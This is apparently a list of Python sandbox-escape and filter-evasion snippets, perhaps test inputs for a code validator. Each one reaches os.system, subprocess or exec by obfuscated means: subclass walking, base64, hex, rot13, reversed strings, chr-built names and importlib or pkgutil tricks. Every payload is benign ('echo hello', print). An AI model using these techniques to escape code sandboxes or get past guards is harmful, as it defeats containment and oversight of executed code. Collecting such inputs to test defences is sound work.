[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "BuiltinImporter"][0].load_module("posix").system("echo hello")
# ---
import base64
exec(base64.b64decode("cHJpbnQoJ1BXTkVEJyk="))
# ---
__import__(chr(111) + chr(115)).system("echo hello")
# ---
x = "o"
y = "s"
getattr(__import__(f"{x}{y}"), f"{'sys'}{'tem'}")("echo hello")
# ---
exec(bytes.fromhex("7072696e74282750574e45442729").decode())
# ---
import sys
for finder in sys.meta_path:
    spec = finder.find_spec("posix", None)
    if spec:
        break
m = spec.loader.create_module(spec)
m.system("echo hello")
# ---
__import__("os").system("echo hello")
# ---
imp = __import__
imp("os").system("echo hello")
# ---
import importlib
importlib.import_module("os").system("echo hello")
# ---
from importlib import import_module as m
m("sub" + "process").call(["echo", "hello"])
# ---
import importlib.util
spec = importlib.util.find_spec("os")
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
mod.system("echo hello")
# ---
n = "".join([chr(c) for c in (111, 115)])
m = getattr(__builtins__, "__imp" + "ort__")(n)
m.system("echo hello")
# ---
__loader__().load_module("posix") if False else None
__builtins__.__loader__.load_module("posix").system("echo hello")
# ---
import pkgutil
pkgutil.resolve_name("os:system")("echo hello")
# ---
getattr(__builtins__, "__tropmi__"[::-1])("so"[::-1]).system("echo hello")
# ---
import codecs
eval(codecs.decode("cevag('CJARQ')", "rot13"))
# ---
import zlib, base64
exec(zlib.decompress(zlib.compress(b"print('hello')")))
